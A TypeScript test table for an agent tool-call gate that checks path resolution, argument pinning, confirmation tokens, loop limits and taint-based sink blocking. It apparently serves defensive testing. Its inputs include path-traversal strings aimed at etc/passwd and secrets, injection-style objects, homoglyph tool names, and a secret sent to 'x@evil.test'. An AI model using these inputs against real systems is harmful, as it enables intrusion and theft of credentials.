// The policy table (issue 4): subject, roles, tool, args → outcome and reason, through the real
// native binding. Each row gets a fresh gate built from fixtures/policy/config.json (plus the
// row's own overrides); `steps` run first on the same gate (state rows: loop, taint, tokens).
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'

import { ToolGate, type CallContext, type Outcome, type Reason, type ToolGateConfig, type ToolGateOptions, type Verdict } from '../src-ts/index'

const BASE = JSON.parse(readFileSync(join(__dirname, 'fixtures/policy/config.json'), 'utf8')) as ToolGateConfig

type Call = { tool: string; args?: unknown; ctx?: CallContext } | { confirm: 'previous' | string; ctx?: CallContext }
type Step = Call | { markSession: [string, string] } | { sleepMs: number }
interface Row {
  name: string
  steps?: Step[]
  call: Call
  expect: { outcome: Outcome; reason?: Reason; args?: Record<string, unknown>; flags?: string[]; resource?: string; action?: string }
  config?: Partial<ToolGateConfig>
  options?: ToolGateOptions
  async?: boolean
}

const analyst: CallContext = { subject: 'ana', roles: ['analyst'] }
const alice: CallContext = { subject: 'alice', session: 's-alice' }
const finance: CallContext = { subject: 'fin', roles: ['finance'] }

const rows: Row[] = [
  // — unknown tools: exact names only —
  { name: 'declared tool, allowed by rule', call: { tool: 'search', args: { q: 'x' } }, expect: { outcome: 'passed', action: 'search' } },
  { name: 'unknown tool', call: { tool: 'drop_tables', args: {} }, expect: { outcome: 'rejected', reason: 'unknown_tool' } },
  { name: 'unknown: different case', call: { tool: 'Search', args: { q: 'x' } }, expect: { outcome: 'rejected', reason: 'unknown_tool' } },
  { name: 'unknown: upper case', call: { tool: 'SEARCH', args: { q: 'x' } }, expect: { outcome: 'rejected', reason: 'unknown_tool' } },
  { name: 'unknown: zero-width space inside', call: { tool: 'sea\u200brch', args: { q: 'x' } }, expect: { outcome: 'rejected', reason: 'unknown_tool' } },
  { name: 'unknown: zero-width joiner at end', call: { tool: 'search\u200d', args: { q: 'x' } }, expect: { outcome: 'rejected', reason: 'unknown_tool' } },
  { name: 'unknown: Cyrillic homoglyph', call: { tool: 'sеarch', args: { q: 'x' } }, expect: { outcome: 'rejected', reason: 'unknown_tool' } },
  { name: 'unknown: fullwidth letters', call: { tool: 'ｓｅａｒｃｈ', args: { q: 'x' } }, expect: { outcome: 'rejected', reason: 'unknown_tool' } },
  { name: 'unknown: trailing space', call: { tool: 'search ', args: { q: 'x' } }, expect: { outcome: 'rejected', reason: 'unknown_tool' } },
  { name: 'unknown: NFD vs NFC is not normalized', call: { tool: 'read_file\u0301', args: { path: 'reports/a' }, ctx: analyst }, expect: { outcome: 'rejected', reason: 'unknown_tool' } },

  // — resources: segments and paths, fail closed —
  { name: 'path resource inside the allowed prefix', call: { tool: 'read_file', args: { path: 'reports/q3.csv' }, ctx: analyst }, expect: { outcome: 'passed', resource: 'file:reports/q3.csv', action: 'read' } },
  { name: 'path normalized: ./ and // folded', call: { tool: 'read_file', args: { path: 'reports/./2024//q3.csv' }, ctx: analyst }, expect: { outcome: 'passed', resource: 'file:reports/2024/q3.csv' } },
  { name: 'path .. resolved inside its start, then outside the rule', call: { tool: 'read_file', args: { path: 'reports/../etc/passwd' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'no_rule', resource: 'file:etc/passwd' } },
  { name: 'path climbing above its start', call: { tool: 'read_file', args: { path: 'reports/../../etc/passwd' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: 'path starting with ../', call: { tool: 'read_file', args: { path: '../secrets' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: '%2e%2e stays literal (no decoding)', call: { tool: 'read_file', args: { path: 'reports/%2e%2e/x' }, ctx: analyst }, expect: { outcome: 'passed', resource: 'file:reports/%2e%2e/x' } },
  { name: '%2e%2e at the start is a literal segment, outside the rule', call: { tool: 'read_file', args: { path: '%2e%2e/%2e%2e/etc' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'no_rule' } },
  { name: 'backslash traversal', call: { tool: 'read_file', args: { path: 'reports\\..\\..\\etc' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: 'NUL in a path', call: { tool: 'read_file', args: { path: 'reports/a\u0000.csv' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: 'absolute path', call: { tool: 'read_file', args: { path: '/etc/passwd' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: 'Windows drive path', call: { tool: 'read_file', args: { path: 'C:\\Windows' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: 'control character in a path', call: { tool: 'read_file', args: { path: 'reports/\u0007bell' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: '{x} given ../admin', call: { tool: 'read_secret', args: { name: '../admin' }, ctx: { ...analyst, purpose: 'audit' } }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: '{x} given a/b', call: { tool: 'read_secret', args: { name: 'a/b' }, ctx: { ...analyst, purpose: 'audit' } }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: '{x} given ..', call: { tool: 'get_doc', args: { id: '..' } }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: '{x} given a number', call: { tool: 'get_doc', args: { id: 42 } }, expect: { outcome: 'passed', resource: 'doc:42' } },
  { name: '{x} given an object', call: { tool: 'get_doc', args: { id: { $ne: null } } }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: '{x} given an array', call: { tool: 'get_doc', args: { id: ['a'] } }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: '{x} given null', call: { tool: 'get_doc', args: { id: null } }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: '{x} given a boolean', call: { tool: 'get_doc', args: { id: true } }, expect: { outcome: 'denied', reason: 'unresolved_resource' } },
  { name: 'resource argument missing is invalid before policy', call: { tool: 'get_doc', args: {} }, expect: { outcome: 'rejected', reason: 'invalid' } },
  { name: '{subject} in a resource with a subject', call: { tool: 'user_files', args: { path: 'notes/a.txt' }, ctx: alice }, expect: { outcome: 'passed', resource: 'home:alice/notes/a.txt' } },
  { name: '{subject} in a resource with no subject', call: { tool: 'user_files', args: { path: 'notes/a.txt' } }, expect: { outcome: 'denied', reason: 'no_subject' } },

  // — pins —
  { name: 'pinned argument overwritten with the caller', call: { tool: 'list_orders', args: { owner: 'bob' }, ctx: alice }, expect: { outcome: 'repaired', args: { owner: 'alice' }, flags: ['PinnedArgument'], resource: 'orders:alice' } },
  { name: 'pinned argument filled when the model left it out', call: { tool: 'list_orders', args: { status: 'open' }, ctx: alice }, expect: { outcome: 'repaired', args: { status: 'open', owner: 'alice' }, flags: ['PinnedArgument'] } },
  { name: 'pinned argument already right: nothing to flag', call: { tool: 'list_orders', args: { owner: 'alice' }, ctx: alice }, expect: { outcome: 'passed', args: { owner: 'alice' } } },
  { name: 'pin with no subject', call: { tool: 'list_orders', args: { owner: 'bob' } }, expect: { outcome: 'denied', reason: 'no_subject' } },
  { name: 'pin from identity.tenant', call: { tool: 'tenant_report', args: { tenant: 'other-co' }, ctx: { subject: 'u', identity: { tenant: 'acme' } } }, expect: { outcome: 'repaired', args: { tenant: 'acme' }, flags: ['PinnedArgument'] } },
  { name: 'pin from a missing identity fact', call: { tool: 'tenant_report', args: { tenant: 'acme' }, ctx: { subject: 'u' } }, expect: { outcome: 'denied', reason: 'no_subject' } },
  { name: 'an injected pin value in the arguments cannot win', call: { tool: 'list_orders', args: '{"owner":"alice","status":"open"}', ctx: { subject: 'eve' } }, expect: { outcome: 'repaired', args: { owner: 'eve', status: 'open' } } },

  // — argument globs —
  { name: 'argument inside its glob', call: { tool: 'export_report', args: { path: 'reports/2024/q1.pdf' } }, expect: { outcome: 'passed' } },
  { name: 'argument outside its glob', call: { tool: 'export_report', args: { path: 'secrets/keys.pem' } }, expect: { outcome: 'denied', reason: 'arg_glob' } },
  { name: 'argument glob is not fooled by ..', call: { tool: 'export_report', args: { path: 'reports/../secrets/keys.pem' } }, expect: { outcome: 'denied', reason: 'arg_glob' } },

  // — surface —
  { name: 'operator tool from the visitor surface', call: { tool: 'delete_user', args: { id: 'u1' }, ctx: { subject: 'root', roles: ['admin'] } }, expect: { outcome: 'denied', reason: 'surface' } },
  { name: 'operator tool from the operator surface', call: { tool: 'delete_user', args: { id: 'u1' }, ctx: { subject: 'root', roles: ['admin'], surface: 'operator' } }, expect: { outcome: 'passed' } },
  { name: 'surface is checked before the arguments', call: { tool: 'delete_user', args: '{not json', ctx: { roles: ['admin'] } }, expect: { outcome: 'denied', reason: 'surface' } },
  { name: 'operator surface still needs a rule', call: { tool: 'delete_user', args: { id: 'u1' }, ctx: { subject: 'x', roles: ['analyst'], surface: 'operator' } }, expect: { outcome: 'denied', reason: 'no_rule' } },

  // — rules, personas, conditions —
  { name: 'no matching allow', call: { tool: 'admin_panel', args: {}, ctx: analyst }, expect: { outcome: 'denied', reason: 'no_rule' } },
  { name: 'role missing', call: { tool: 'read_file', args: { path: 'reports/a' }, ctx: { subject: 'x', roles: ['intern'] } }, expect: { outcome: 'denied', reason: 'no_rule' } },
  { name: 'deny beats allow', call: { tool: 'read_file', args: { path: 'reports/private/salaries.csv' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'deny_rule' } },
  { name: 'deny by subject beats an open allow', call: { tool: 'search', args: { q: 'x' }, ctx: { subject: 'mallory' } }, expect: { outcome: 'denied', reason: 'deny_rule' } },
  { name: 'condition holds', call: { tool: 'read_secret', args: { name: 'db' }, ctx: { ...analyst, purpose: 'audit' } }, expect: { outcome: 'passed', resource: 'secret:db' } },
  { name: 'condition fails', call: { tool: 'read_secret', args: { name: 'db' }, ctx: { ...analyst, purpose: 'curiosity' } }, expect: { outcome: 'denied', reason: 'no_rule' } },
  { name: 'condition over a missing purpose', call: { tool: 'read_secret', args: { name: 'db' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'no_rule' } },
  { name: 'persona allows', call: { tool: 'read_secret', args: { name: 'db' }, ctx: { subject: 'v', roles: ['verifier'] } }, expect: { outcome: 'passed' } },
  { name: 'a role named in the arguments grants nothing', call: { tool: 'read_secret', args: { name: 'db', roles: ['verifier'], purpose: 'audit' }, ctx: { subject: 'x' } }, expect: { outcome: 'denied', reason: 'no_rule' } },
  { name: 'invalid arguments are rejected before policy', call: { tool: 'read_file', args: {}, ctx: { subject: 'nobody' } }, expect: { outcome: 'rejected', reason: 'invalid' } },
  { name: 'repairs happen before policy decides', call: { tool: 'read_file', args: { path: 7, extra: 1 }, ctx: { subject: 'nobody' } }, expect: { outcome: 'denied', reason: 'no_rule', resource: 'file:7' } },
  { name: 'arguments condition: small transfer needs no confirmation', call: { tool: 'transfer', args: { amount: 50, to: 'acct-1' }, ctx: finance }, expect: { outcome: 'passed' } },
  { name: 'arguments condition: a repaired "50" counts as 50', call: { tool: 'transfer', args: { amount: '50', to: 'acct-1' }, ctx: finance }, expect: { outcome: 'repaired', args: { amount: 50, to: 'acct-1' } } },
  { name: 'large transfer waits for confirmation', call: { tool: 'transfer', args: { amount: 5000, to: 'acct-1' }, ctx: finance }, expect: { outcome: 'confirm', reason: 'confirm_required' } },
  { name: 'transfer without the role', call: { tool: 'transfer', args: { amount: 5, to: 'acct-1' }, ctx: analyst }, expect: { outcome: 'denied', reason: 'no_rule' } },

  // — confirm before write —
  { name: 'writes tool asks for confirmation', call: { tool: 'send_email', args: { to: 'a@b.c', body: 'hi' }, ctx: alice }, expect: { outcome: 'confirm', reason: 'confirm_required' } },
  { name: 'confirm runs the call once', steps: [{ tool: 'send_email', args: { to: 'a@b.c', body: 'hi' }, ctx: alice }], call: { confirm: 'previous', ctx: alice }, expect: { outcome: 'passed', args: { to: 'a@b.c', body: 'hi' } } },
  { name: 'confirm keeps the repaired arguments', steps: [{ tool: 'transfer', args: { amount: '500', to: 'x' }, ctx: finance }], call: { confirm: 'previous', ctx: finance }, expect: { outcome: 'repaired', args: { amount: 500, to: 'x' } } },
  { name: 'token replayed', steps: [{ tool: 'send_email', args: { to: 'a@b.c', body: 'hi' }, ctx: alice }, { confirm: 'previous', ctx: alice }], call: { confirm: 'previous', ctx: alice }, expect: { outcome: 'denied', reason: 'token_invalid' } },
  { name: 'another caller’s token', steps: [{ tool: 'send_email', args: { to: 'a@b.c', body: 'hi' }, ctx: alice }], call: { confirm: 'previous', ctx: { subject: 'mallet' } }, expect: { outcome: 'denied', reason: 'token_invalid' } },
  { name: 'the rightful caller can still confirm after a foreign attempt', steps: [{ tool: 'send_email', args: { to: 'a@b.c', body: 'hi' }, ctx: alice }, { confirm: 'previous', ctx: { subject: 'mallet' } }], call: { confirm: 'previous', ctx: alice }, expect: { outcome: 'passed' } },
  { name: 'unknown token', call: { confirm: 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', ctx: alice }, expect: { outcome: 'denied', reason: 'token_invalid' } },
  { name: 'expired token', config: { confirm: { ttlSeconds: 1 } }, steps: [{ tool: 'send_email', args: { to: 'a@b.c', body: 'hi' }, ctx: alice }, { sleepMs: 1100 }], call: { confirm: 'previous', ctx: alice }, expect: { outcome: 'denied', reason: 'token_invalid' } },
  { name: 'confirm re-runs policy with the current caller', steps: [{ tool: 'transfer', args: { amount: 500, to: 'x' }, ctx: finance }], call: { confirm: 'previous', ctx: { subject: 'fin', roles: [] } }, expect: { outcome: 'denied', reason: 'no_rule' } },

  // — loop guard —
  { name: 'third identical call is fine', steps: [{ tool: 'search', args: { q: 'a' }, ctx: alice }, { tool: 'search', args: { q: 'a' }, ctx: alice }], call: { tool: 'search', args: { q: 'a' }, ctx: alice }, expect: { outcome: 'passed' } },
  { name: 'fourth identical call is a loop', steps: [1, 2, 3].map(() => ({ tool: 'search', args: { q: 'a' }, ctx: alice })), call: { tool: 'search', args: { q: 'a' }, ctx: alice }, expect: { outcome: 'rejected', reason: 'loop' } },
  { name: 'key order does not dodge the loop guard', steps: [{ tool: 'poll_status', args: '{"job":"1","x":1}', ctx: alice }, ...[1, 2, 3, 4].map(() => ({ tool: 'poll_status', args: '{"x":1,"job":"1"}', ctx: alice }))], call: { tool: 'poll_status', args: { job: '1', x: 1 }, ctx: alice }, expect: { outcome: 'rejected', reason: 'loop' } },
  { name: 'a repair does not dodge the loop guard', steps: [{ tool: 'search', args: { q: 1 }, ctx: alice }, { tool: 'search', args: { q: '1' }, ctx: alice }, { tool: 'search', args: { q: 1 }, ctx: alice }], call: { tool: 'search', args: { q: '1' }, ctx: alice }, expect: { outcome: 'rejected', reason: 'loop' } },
  { name: 'different arguments are not a loop', steps: [1, 2, 3].map(() => ({ tool: 'search', args: { q: 'a' }, ctx: alice })), call: { tool: 'search', args: { q: 'b' }, ctx: alice }, expect: { outcome: 'passed' } },
  { name: 'another session is not a loop', steps: [1, 2, 3].map(() => ({ tool: 'search', args: { q: 'a' }, ctx: alice })), call: { tool: 'search', args: { q: 'a' }, ctx: { subject: 'alice', session: 's2' } }, expect: { outcome: 'passed' } },
  { name: 'per-tool threshold: polling 5 times is fine', steps: [1, 2, 3, 4].map(() => ({ tool: 'poll_status', args: { job: '1' }, ctx: alice })), call: { tool: 'poll_status', args: { job: '1' }, ctx: alice }, expect: { outcome: 'passed' } },
  { name: 'per-tool threshold: the sixth poll is a loop', steps: [1, 2, 3, 4, 5].map(() => ({ tool: 'poll_status', args: { job: '1' }, ctx: alice })), call: { tool: 'poll_status', args: { job: '1' }, ctx: alice }, expect: { outcome: 'rejected', reason: 'loop' } },
  { name: 'calls awaiting confirmation are not counted as runs', steps: [1, 2, 3, 4].map(() => ({ tool: 'send_email', args: { to: 'a', body: 'b' }, ctx: alice })), call: { confirm: 'previous', ctx: alice }, expect: { outcome: 'passed' } },
  { name: 'confirmed runs are counted', steps: [1, 2, 3].flatMap(() => [{ tool: 'send_email', args: { to: 'a', body: 'b' }, ctx: alice }, { confirm: 'previous' as const, ctx: alice }]), call: { tool: 'send_email', args: { to: 'a', body: 'b' }, ctx: alice }, expect: { outcome: 'rejected', reason: 'loop' } },
  { name: 'without a session, state is kept per subject', steps: [1, 2, 3].map(() => ({ tool: 'search', args: { q: 'a' }, ctx: { subject: 'bob' } })), call: { tool: 'search', args: { q: 'a' }, ctx: { subject: 'bob' } }, expect: { outcome: 'rejected', reason: 'loop' } },
  { name: 'without subject or session, state is gate-wide', steps: [1, 2, 3].map(() => ({ tool: 'search', args: { q: 'a' } })), call: { tool: 'search', args: { q: 'a' } }, expect: { outcome: 'rejected', reason: 'loop' } },

  // — taint and sinks —
  { name: 'clean session may use a public sink', steps: [], call: { tool: 'post_webhook', args: { url: 'https://x' }, ctx: alice }, expect: { outcome: 'passed' } },
  { name: 'secret read, then a public sink', steps: [{ tool: 'read_secret', args: { name: 'db' }, ctx: { ...alice, roles: ['verifier'] } }], call: { tool: 'send_email', args: { to: 'x@evil.test', body: 'pw' }, ctx: alice }, expect: { outcome: 'denied', reason: 'taint' } },
  { name: 'internal read allows an internal sink', steps: [{ tool: 'read_file', args: { path: 'reports/a' }, ctx: { ...alice, roles: ['analyst'] } }], call: { tool: 'post_webhook', args: { url: 'https://x' }, ctx: alice }, expect: { outcome: 'passed' } },
  { name: 'internal read blocks a public sink', steps: [{ tool: 'read_file', args: { path: 'reports/a' }, ctx: { ...alice, roles: ['analyst'] } }], call: { tool: 'send_email', args: { to: 'x', body: 'y' }, ctx: alice }, expect: { outcome: 'denied', reason: 'taint' } },
  { name: 'a refused read does not taint', steps: [{ tool: 'read_secret', args: { name: 'db' }, ctx: alice }], call: { tool: 'post_webhook', args: { url: 'https://x' }, ctx: alice }, expect: { outcome: 'passed' } },
  { name: 'markSession taints by hand', steps: [{ markSession: ['s-alice', 'secret'] }], call: { tool: 'post_webhook', args: { url: 'https://x' }, ctx: alice }, expect: { outcome: 'denied', reason: 'taint' } },
  { name: 'taint is per session', steps: [{ markSession: ['s-other', 'secret'] }], call: { tool: 'post_webhook', args: { url: 'https://x' }, ctx: alice }, expect: { outcome: 'passed' } },
  {
    name: 'an evicted session stays tainted (at the top label)',
    config: { state: { maxSessions: 2 } },
    steps: [{ tool: 'search', args: { q: '1' }, ctx: alice }, ...['s1', 's2', 's3'].map((s) => ({ tool: 'search', args: { q: s }, ctx: { subject: s, session: s } }))],
    call: { tool: 'post_webhook', args: { url: 'https://x' }, ctx: alice },
    expect: { outcome: 'denied', reason: 'taint' },
  },

  // — engines —
  { name: 'engine that throws denies', options: { engines: [() => { throw new Error('boom') }] }, call: { tool: 'search', args: { q: 'a' }, ctx: alice }, expect: { outcome: 'denied', reason: 'engine' } },
  { name: 'engine that hangs denies after engineTimeoutMs', async: true, options: { engines: [() => new Promise(() => {})], engineTimeoutMs: 30 }, call: { tool: 'search', args: { q: 'a' }, ctx: alice }, expect: { outcome: 'denied', reason: 'engine' } },
  { name: 'engine that answers nonsense denies', options: { engines: [() => 'yes' as never] }, call: { tool: 'search', args: { q: 'a' }, ctx: alice }, expect: { outcome: 'denied', reason: 'engine' } },
  { name: 'engine may allow what no rule allowed', options: { engines: [(r) => (r.tool === 'admin_panel' ? 'allow' : 'delegate')] }, call: { tool: 'admin_panel', args: {}, ctx: alice }, expect: { outcome: 'passed' } },
  { name: 'engine cannot overturn a built-in deny', options: { engines: [() => 'allow'] }, call: { tool: 'search', args: { q: 'a' }, ctx: { subject: 'mallory' } }, expect: { outcome: 'denied', reason: 'deny_rule' } },
  { name: 'all engines delegating keep no_rule', options: { engines: [() => 'delegate', () => 'delegate'] }, call: { tool: 'admin_panel', args: {}, ctx: alice }, expect: { outcome: 'denied', reason: 'no_rule' } },
  { name: 'first deciding engine wins', options: { engines: [() => 'delegate', () => 'deny', () => 'allow'] }, call: { tool: 'search', args: { q: 'a' }, ctx: alice }, expect: { outcome: 'denied', reason: 'engine' } },
  { name: 'async engine allows through checkAsync', async: true, options: { engines: [async () => 'allow' as const] }, call: { tool: 'admin_panel', args: {}, ctx: alice }, expect: { outcome: 'passed' } },
]

function gateFor(row: Row): ToolGate {
  return new ToolGate({ ...BASE, ...row.config }, row.options)
}

async function run(gate: ToolGate, call: Call, last: { token?: string }, asyncCall: boolean): Promise<Verdict> {
  if ('confirm' in call) {
    const token = call.confirm === 'previous' ? last.token ?? 'missing' : call.confirm
    return asyncCall ? gate.confirmAsync(token, call.ctx) : gate.confirm(token, call.ctx)
  }
  const v = asyncCall ? await gate.checkAsync(call.tool, call.args as object, call.ctx) : gate.check(call.tool, call.args as object, call.ctx)
  if (v.confirmation) last.token = v.confirmation.token
  return v
}

describe('policy table', () => {
  it('has at least 60 rows', () => expect(rows.length).toBeGreaterThanOrEqual(60))

  for (const row of rows) {
    it(row.name, async () => {
      const gate = gateFor(row)
      const last: { token?: string } = {}
      for (const step of row.steps ?? []) {
        if ('sleepMs' in step) await new Promise((r) => setTimeout(r, step.sleepMs))
        else if ('markSession' in step) gate.markSession(...step.markSession)
        else await run(gate, step, last, row.async === true)
      }
      const v = await run(gate, row.call, last, row.async === true)
      const e = row.expect
      expect({ outcome: v.outcome, reason: v.reason }, v.message).toEqual({ outcome: e.outcome, reason: e.reason })
      expect(v.allowed).toBe(e.outcome === 'passed' || e.outcome === 'repaired')
      if (e.args) expect(v.arguments).toEqual(e.args)
      if (e.flags) expect(v.flags.map((f) => f.code)).toEqual(e.flags)
      if (e.resource) expect(v.resource).toBe(e.resource)
      if (e.action) expect(v.action).toBe(e.action)
      if (!v.allowed) {
        expect(v.message).toBeTypeOf('string')
        expect(v.arguments).toBeUndefined()
      }
      if (v.outcome === 'confirm') {
        expect(v.confirmation?.token).toMatch(/^[A-Za-z0-9_-]{32,}$/)
        expect(v.message).not.toContain(v.confirmation!.token)
      }
    })
  }
})
